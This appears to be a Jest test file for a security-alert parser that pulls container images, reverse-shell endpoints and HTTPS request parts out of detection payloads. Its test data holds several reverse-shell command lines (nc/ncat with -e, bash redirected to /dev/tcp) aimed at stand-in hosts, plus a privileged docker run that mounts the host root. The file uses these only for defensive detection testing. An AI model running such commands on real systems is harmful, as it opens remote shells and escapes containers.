import { describe, expect, it, test } from '@jest/globals';
import type { JsonObject } from '../../src/contracts/types.ts';
import { payloadOf, read } from './harness.ts';

const containerOf = (...args: string[]) =>
  read(payloadOf('Privileged-Container', { process_events: [{ exe: '/usr/bin/docker', arguments: args }] }))
    .container;
const shellOf = (event: JsonObject, over = {}) =>
  read(payloadOf('Reverse-Shell', { process_events: [event] }), over).endpoint;

describe('the image of a container', () => {
  const digest = `sha256:${'ab'.repeat(32)}`;
  test.each<[string[], object]>([
    [['docker', 'run', 'alpine'], { image_name: 'alpine' }],
    [['run', 'alpine:3.20', 'sh'], { image_name: 'alpine', image_tags: ['3.20'] }],
    // A number after a colon is a port only if a path follows.
    [['run', 'alpine:3'], { image_name: 'alpine', image_tags: ['3'] }],
    [
      [
        'docker',
        'run',
        '--privileged',
        '--cap-add=ALL',
        '-v',
        '/:/host',
        'raesene/ncat:latest',
        'h.example',
        '17658',
      ],
      { image_name: 'raesene/ncat', image_tags: ['latest'] },
    ],
    [['docker', 'run', '-it', '--rm', 'alpine', 'sh'], { image_name: 'alpine' }],
    [['docker', 'run', '-itv', '/:/host', 'alpine', 'sh'], { image_name: 'alpine' }],
    [['docker', 'run', '-itu', 'root', 'alpine', 'sh'], { image_name: 'alpine' }],
    [['docker', 'run', '-itv/:/host', 'alpine', 'sh'], { image_name: 'alpine' }],
    [['docker', 'run', '-v/:/host', 'alpine', 'sh'], { image_name: 'alpine' }],
    [['docker', 'run', '--name', 'x', '--pid=host', 'alpine'], { image_name: 'alpine' }],
    [['docker', 'run', '--rm', '--', 'alpine'], { image_name: 'alpine' }],
    [
      ['docker', 'create', `reg.example:5000/a/b:1@${digest}`],
      { image_name: 'reg.example:5000/a/b', image_tags: ['1'], image_digests: [digest] },
    ],
    [['docker', '--debug', '-H', 'tcp://h:1', 'container', 'run', 'alpine'], { image_name: 'alpine' }],
    [['docker', '--context', 'run', 'run', 'alpine'], { image_name: 'alpine' }],
    // Words of other commands.
    [['docker', 'exec', '--privileged', 'abc', 'run', 'x'], {}],
    [['docker', 'compose', 'run', 'web'], {}],
    [['docker', 'network', 'create', 'ci-net'], {}],
    [['docker', 'ps'], {}],
    [['docker', 'run'], {}],
    [['docker', 'run', '--rm', 'Not An Image'], {}],
  ])('%j', (args, image) => {
    expect(containerOf(...args)).toEqual({ runtime: 'docker', ...image });
  });

  it('is absent when arguments are one text, and there is no container without a runtime', () => {
    const event = (exe: string) => ({ exe, arguments: 'docker run alpine' });
    const of = (exe: string) =>
      read(payloadOf('Privileged-Container', { process_events: [event(exe)] })).container;
    expect(of('podman')).toEqual({ runtime: 'podman' });
    const runc = { exe: '/usr/bin/runc', arguments: ['runc', 'run', 'mine'] };
    const { container } = read(payloadOf('Privileged-Container', { process_events: [runc] }));
    expect(container).toEqual({ runtime: 'runc' });
    expect(of('/bin/bash')).toBeUndefined();
  });
});

describe('the far end of a reverse shell', () => {
  test.each<[string, JsonObject, object]>([
    [
      'netcat',
      {
        exe: '/usr/local/bin/ncat',
        arguments: ['/usr/local/bin/ncat', '0.tcp.us-cal-1.ngrok.io', '17658', '-e', '/bin/bash'],
      },
      { domain: '0.tcp.us-cal-1.ngrok.io', port: 17_658 },
    ],
    [
      'without its own name in the list',
      { exe: '/bin/nc', arguments: ['203.0.113.9', '4444', '-e', '/bin/sh'] },
      { ip: '203.0.113.9', port: 4_444 },
    ],
    [
      'with flags before',
      { exe: 'nc', arguments: ['nc', '-nv', '-w', '3', '-e', '/bin/sh', '203.0.113.9', '4444'] },
      { ip: '203.0.113.9', port: 4_444 },
    ],
    ['IPv6', { exe: 'nc', arguments: ['nc', '2001:db8::9', '4444'] }, { ip: '2001:db8::9', port: 4_444 }],
    [
      'bash',
      { exe: '/bin/bash', arguments: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] },
      { ip: '203.0.113.9', port: 4_444 },
    ],
    [
      'bash as one text',
      { exe: '/bin/bash', arguments: 'bash -i >& /dev/udp/c2.example/53 0>&1' },
      { domain: 'c2.example', port: 53 },
    ],
  ])('%s', (_, event, expected) => {
    expect(shellOf(event)).toMatchObject(expected);
  });

  test.each<[string, JsonObject]>([
    ['a listener', { exe: 'nc', arguments: ['nc', '-lvp', '4444'] }],
    ['a listener with a long flag', { exe: 'ncat', arguments: ['ncat', '--listen', '0.0.0.0', '4444'] }],
    ['a port alone', { exe: 'nc', arguments: ['nc', '4444'] }],
    ['an invalid port', { exe: 'nc', arguments: ['nc', 'c2.example', '99999'] }],
    ['a variable', { exe: 'bash', arguments: 'bash -i >& /dev/tcp/$HOST/4444' }],
    ['another program', { exe: '/bin/cat', arguments: ['cat', 'c2.example', '4444'] }],
    ['no arguments', { exe: 'nc' }],
  ])('is not guessed: %s', (_, event) => {
    expect(shellOf(event)).toBeUndefined();
  });

  it('yields to an endpoint in the payload, and can be turned off', () => {
    const event = { exe: 'nc', arguments: ['nc', '203.0.113.9', '4444'] };
    expect(shellOf(event, { deriveDestination: false })).toBeUndefined();
    const said = (endpoint: string) =>
      read(payloadOf('Reverse-Shell', { process_events: [event], endpoint })).endpoint;
    expect(said('said.example:1')?.domain).toBe('said.example');
    // A value that is not a host does not hide one.
    expect(said(':443')).toMatchObject({ raw: ':443', ip: '203.0.113.9', port: 4_444 });
  });
});

describe('an HTTPS call', () => {
  const httpOf = (fields: JsonObject) => read(payloadOf('HTTPS-Outbound-Network-Call', fields));
  it('is read completely', () => {
    const { http, direction, file } = httpOf({
      host: 'API.github.com',
      method: 'POST',
      path: '/a/b?x=1&y=2',
    });
    expect(http).toEqual({
      method: 'POST',
      scheme: 'https',
      domain: 'api.github.com',
      path: '/a/b',
      query: 'x=1&y=2',
      original: '/a/b?x=1&y=2',
      full: 'https://api.github.com/a/b?x=1&y=2',
    });
    expect([direction, file]).toEqual(['egress', undefined]);
  });
  it('copes with missing or strange members', () => {
    expect(httpOf({ host: 'a.example:8443' }).http).toEqual({
      scheme: 'https',
      domain: 'a.example',
      full: 'https://a.example:8443',
      port: 8_443,
    });
    expect(httpOf({ host: '*.example', path: 'x' }).http).toEqual({
      scheme: 'https',
      path: 'x',
      original: 'x',
    });
    const strange = httpOf({ host: 'a.example', method: 'GET / HTTP', path: 'x' });
    expect(strange.http).toEqual({
      scheme: 'https',
      domain: 'a.example',
      path: 'x',
      original: 'x',
      full: 'https://a.example/x',
    });
    expect(strange.warnings).toEqual(['bad_method']);
  });
});

test.each<[string, JsonObject, string | undefined]>([
  ['HTTPS-Outbound-Network-Call', { host: 'a.example', method: 'GET' }, 'tcp'],
  ['Secret-Exfiltration-Attempt', { host: 'a.example', method: 'POST', path: '/x' }, 'tcp'],
  ['Brand-New', { endpoint: 'a.example:443', host: 'a.example', path: '/x' }, 'tcp'],
  ['Brand-New', { path: 'https://a.example/x' }, 'tcp'],
  ['Brand-New', { endpoint: 'a.example:443/udp', host: 'a.example', path: '/x' }, 'udp'],
  // Without a URL the host may have been contacted over any protocol.
  ['Brand-New', { host: 'a.example' }, undefined],
  ['Brand-New', { host: 'a.example', method: 'a b' }, undefined],
  ['Source-Code-Overwritten', { endpoint: 'a.example:443', path: '/x' }, undefined],
])('a request goes over TCP: %s %j', (id, fields, transport) => {
  expect(read(payloadOf(id, fields)).endpoint?.transport).toBe(transport);
});

describe('the parts of a URL', () => {
  const partsOf = (fields: JsonObject) => {
    const { http, endpoint, file, unmapped, related, warnings } = read(
      payloadOf('HTTPS-Outbound-Network-Call', { method: 'POST', ...fields }),
    );
    expect([file, unmapped]).toEqual([undefined, undefined]);
    return { ...http, to: endpoint?.address, hosts: related.hosts, warnings };
  };
  test.each<[JsonObject, object]>([
    [
      { host: 'evil.example:8443', path: '/a?x=1#f?g' },
      { path: '/a', query: 'x=1', fragment: 'f?g', full: 'https://evil.example:8443/a?x=1#f?g' },
    ],
    [
      { host: 'evil.example', path: 'https://evil.example/a?b' },
      {
        domain: 'evil.example',
        path: '/a',
        query: 'b',
        full: 'https://evil.example/a?b',
        original: 'https://evil.example/a?b',
        warnings: [],
      },
    ],
    [
      { host: 'proxy.example:3128', path: 'http://evil.example:81' },
      {
        scheme: 'http',
        domain: 'evil.example',
        port: 81,
        path: undefined,
        full: 'http://evil.example:81',
        to: 'proxy.example',
        hosts: ['proxy.example', 'evil.example'],
        // HTTP requires both to be the same.
        warnings: ['host_mismatch'],
      },
    ],
    [{ path: 'https://evil.example/a' }, { domain: 'evil.example', path: '/a', to: 'evil.example' }],
    [
      { host: 'bücher.example', path: '/' },
      { domain: 'xn--bcher-kva.example', full: 'https://xn--bcher-kva.example/' },
    ],
    // The connection's own address, and the host that was asked for.
    [
      { endpoint: '203.0.113.9:443', host: 'api.github.com', path: '/x' },
      {
        domain: 'api.github.com',
        full: 'https://api.github.com/x',
        to: '203.0.113.9',
        hosts: ['api.github.com'],
      },
    ],
    [
      { endpoint: 'api.github.com:443', host: 'api.github.com', path: '/x' },
      { domain: 'api.github.com', port: undefined },
    ],
  ])('%j', (fields, expected) => {
    expect(partsOf(fields)).toMatchObject({ warnings: [], ...expected });
  });
});

test('a broken agent cannot fill an index', () => {
  const process_events = Array.from({ length: 5_000 }, (_, pid) => ({ pid }));
  const detection = read(payloadOf('Reverse-Shell', { process_events }));
  expect(detection.process_events).toHaveLength(100);
  expect(detection.warnings).toEqual(['process_events_capped']);
});
